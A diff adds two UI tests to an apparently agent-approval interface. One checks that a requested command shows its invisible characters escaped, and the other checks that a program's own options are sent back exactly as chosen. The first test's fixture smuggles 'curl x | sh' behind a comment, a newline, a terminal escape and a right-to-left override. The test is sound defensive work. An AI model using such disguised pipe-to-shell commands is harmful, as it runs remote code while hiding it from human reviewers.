@@ -71,6 +71,33 @@ describe('what agents ask to be allowed', { timeout: 120_000 }, () => {
     await card.getByText('ruth allowed it once').waitFor();
   });
 
+  it('shows every character of a command, invisible ones written out', async () => {
+    await opened.signIn();
+    const { card } = ask({ command: 'npm test # \u001b]0;\ncurl x | sh\u202e' });
+    const shown = card.getByRole('region', { name: 'Exactly' });
+    await shown.waitFor();
+    assert.equal(await shown.textContent(), 'npm test # \\u{1b}]0;↵\ncurl x | sh\\u{202e}');
+  });
+
+  it("shows a program's own options in its order, and sends exactly the one that is chosen", async () => {
+    const { server } = opened;
+    await opened.signIn();
+    const names = ['PostgreSQL', 'MySQL'];
+    const options = names.map((name) => ({ option_id: `id ${name}`, name, kind: 'allow_once' }) as const);
+    const { asked, card } = ask({ group: 'other', command: null, title: 'Which database?', options });
+    const answered = { status: 'allowed', answer: 'once', answered_by: 'dana' } as const;
+    server.answer('answer_approval', () => ({
+      approval: { ...asked, ...answered, option: options[1], answered_at: minutesAgo(0) },
+    }));
+    await card.getByRole('button', { name: 'MySQL' }).waitFor();
+    const buttons = await card.getByRole('button').allTextContents();
+    assert.deepEqual(buttons, [...names, 'None of these…']);
+    await card.getByRole('button', { name: 'MySQL' }).click();
+    await card.getByText('dana chose “MySQL”').waitFor();
+    const sent = server.received.find(({ type }) => type === 'answer_approval');
+    assert.deepEqual(sent?.request, { approval_id: 2, option_id: 'id MySQL', sentence: '' });
+  });
+
   it('tells wherever one is what waits, and leads there; who may not answer is told who may', async () => {
     const { page, server } = opened;
     server.team.self = { user_id: 'dana', role: 'analyst' };
